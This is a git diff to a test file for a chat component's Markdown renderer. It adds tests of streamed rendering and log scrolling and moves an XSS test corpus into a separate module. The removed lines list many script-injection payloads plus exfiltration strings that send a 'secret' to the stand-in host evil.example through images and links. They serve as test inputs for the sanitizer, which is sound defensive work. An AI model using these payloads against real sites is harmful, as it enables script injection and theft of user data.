@@ -16,6 +16,7 @@ import {
   type PedelecSessionElement,
 } from '../../../src/index.js';
 import { installFakeChrome, uninstallFakeChrome } from '../../support/fake-chrome.js';
+import { EVIL, FLAG, exfiltration, payloads, set } from './xss-corpus.js';
 
 // The chat renders the events of its session; here the test is the session's agent.
 let turns = 0;
@@ -134,6 +135,54 @@ describe('<pedelec-chat markdown>', () => {
     expect(agentRows(chat)[0]!.textContent!.endsWith('x'.repeat(30))).to.equal(true);
   });
 
+  it('a streamed reply shows exactly as its whole text rendered at once', async function () {
+    this.timeout(20000);
+    const { session, chat } = await mount();
+    say(session, '**warm up**');
+    await rendered(chat, () => agentRows(chat)[0]);
+    const section = (n: number) =>
+      `## Step ${n}\nThe agent read **part ${n}** and called \`get_counter\`.\n\n- one\n- two\n\n  more\n\n` +
+      `\`\`\`js\nconst step = ${n};\n\`\`\`\n| a | b |\n|---|--:|\n| ${n} | 2 |\n\n> quoted\n\n---\n\n`;
+    const text = Array.from({ length: 40 }, (_, n) => section(n)).join('');
+    const pieces = Array.from({ length: Math.ceil(text.length / 200) }, (_, i) => text.slice(i * 200, i * 200 + 200));
+    say(session, ...pieces);
+    const row = await rendered(chat, () => agentRows(chat)[1]);
+    expect(row.querySelectorAll('.blocks > div').length, 'finished blocks in groups').to.be.above(1);
+
+    // The same text rendered whole, beside it: same place, same styles (busy, so never skipped while
+    // out of view: its size is its own).
+    const { renderMarkdown } = await import('../../../src/markdown.js');
+    const whole = document.createElement('div');
+    whole.setAttribute('part', 'message agent');
+    whole.setAttribute('aria-busy', 'true');
+    whole.className = 'md';
+    whole.append(Object.assign(document.createElement('div'), { className: 'blocks' }));
+    whole.lastElementChild!.append(renderMarkdown(text));
+    row.after(whole);
+    expect(row.getBoundingClientRect().height).to.equal(whole.getBoundingClientRect().height);
+    expect(row.textContent).to.equal(`Agent: ${whole.textContent}`);
+    whole.remove();
+  });
+
+  it('a long reply that arrives at once: the log still follows it to its end', async function () {
+    this.timeout(20000);
+    const { session, chat } = await mount();
+    (chat as HTMLElement).style.height = '300px';
+    say(session, '**warm up**');
+    await rendered(chat, () => agentRows(chat)[0]);
+    const text = Array.from(
+      { length: 60 },
+      (_, n) => `## Part ${n}\n\n${'A sentence of the reply. '.repeat(12)}\n\n- a\n- b\n\n`,
+    ).join('');
+    say(session, text);
+    await rendered(chat, () => agentRows(chat)[1]);
+    const log = chat.shadowRoot!.querySelector<HTMLElement>('[role=log]')!;
+    // Rows shown for the first time may take their real size over the next frames.
+    for (let frame = 0; frame < 5; frame++) await nextFrame();
+    expect(log.scrollHeight - log.scrollTop - log.clientHeight, 'at the bottom').to.be.below(40);
+    expect(agentRows(chat)[1]!.textContent).to.contain('Part 59');
+  });
+
   // Found in review: a linked image (the usual badge) was split into an empty link and a link to the
   // image; a task list lost which items are done (its inputs are stripped).
   it('a linked image stays one link to its target, with the alt text', async () => {
@@ -154,64 +203,6 @@ describe('<pedelec-chat markdown>', () => {
   });
 
   describe('XSS corpus', () => {
-    const FLAG = '__pedelecXss';
-    const set = `window.${FLAG}=1`;
-    const EVIL = 'https://evil.example';
-    /** Classic payloads: raw HTML, event handlers, URL schemes, mutation XSS, CSS, and Markdown forms of them. */
-    const payloads = [
-      `<script>${set}</script>`,
-      `<img src=x onerror="${set}">`,
-      `<svg onload="${set}">`,
-      `<svg><script>${set}</script></svg>`,
-      `<iframe src="javascript:${set}"></iframe>`,
-      `<iframe srcdoc="<script>parent.${FLAG}=1</script>"></iframe>`,
-      `<body onload="${set}">`,
-      `<input autofocus onfocus="${set}">`,
-      `<details open ontoggle="${set}"><summary>x</summary></details>`,
-      `<video><source onerror="${set}"></video>`,
-      `<audio src=x onerror="${set}"></audio>`,
-      `<object data="javascript:${set}"></object>`,
-      `<embed src="javascript:${set}">`,
-      `<form action="javascript:${set}"><button>go</button></form>`,
-      `<a href="javascript:${set}">click</a>`,
-      `<math><mtext><table><mglyph><style><img src=x onerror="${set}">`,
-      `<noscript><p title="</noscript><img src=x onerror=${set}>">`,
-      `<svg><a xlink:href="javascript:${set}"><text x="20" y="20">x</text></a></svg>`,
-      `<meta http-equiv="refresh" content="0;url=javascript:${set}">`,
-      `<base href="${EVIL}/">`,
-      `<marquee onstart="${set}">x</marquee>`,
-      `<div onclick="${set}">click me</div>`,
-      `<style>@import '${EVIL}/import.css'; *{background:url(${EVIL}/bg.png)}</style>`,
-      `<div style="background:url(${EVIL}/style.png)">styled</div>`,
-      `<link rel="stylesheet" href="${EVIL}/link.css"><link rel="prefetch" href="${EVIL}/prefetch">`,
-      `\`<img src=x onerror="${set}">\` in code`,
-      `[click](javascript:${set})`,
-      `[click](JaVaScRiPt:${set})`,
-      `[click](  javascript:${set})`,
-      `[click](&#x6A;avascript:${set})`,
-      `[click](java\u0000script:${set})`,
-      `[click](vbscript:msgbox(1))`,
-      `[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wZWRlbGVjWHNzPTE8L3NjcmlwdD4=)`,
-      `[ref][x]\n\n[x]: javascript:${set}`,
-      `[click](${EVIL}/ "onmouseover=${set}")`,
-      `<a href="${EVIL}/" ping="${EVIL}/ping" onmouseover="${set}">ping</a>`,
-    ];
-    /** Exfiltration: an injected image (or resource) would carry the page's secrets to another host. */
-    const exfiltration = [
-      `![secret](${EVIL}/img.png?d=secret)`,
-      `![secret][img]\n\n[img]: ${EVIL}/ref.png?d=secret`,
-      `<img src="${EVIL}/raw.png?d=secret">`,
-      `<img srcset="${EVIL}/srcset.png?d=secret 1x">`,
-      `<picture><source srcset="${EVIL}/picture.png?d=secret"></picture>`,
-      `<video poster="${EVIL}/poster.png?d=secret"></video>`,
-      `<svg><image href="${EVIL}/svg.png?d=secret"></image></svg>`,
-      `[![x](${EVIL}/nested.png?d=secret)](${EVIL}/)`,
-      `[a link](${EVIL}/?d=secret)`,
-      `<${EVIL}/autolink?d=secret>`,
-      `${EVIL}/bare?d=secret`,
-      `[mail](mailto:someone@example.com)`,
-      `[relative](/steal?d=secret)`,
-    ];
     const FORBIDDEN =
       'img, picture, source, video, audio, iframe, frame, object, embed, form, input, button, style, link, meta, base, script, svg, math, noscript, marquee, details, image, body';
 
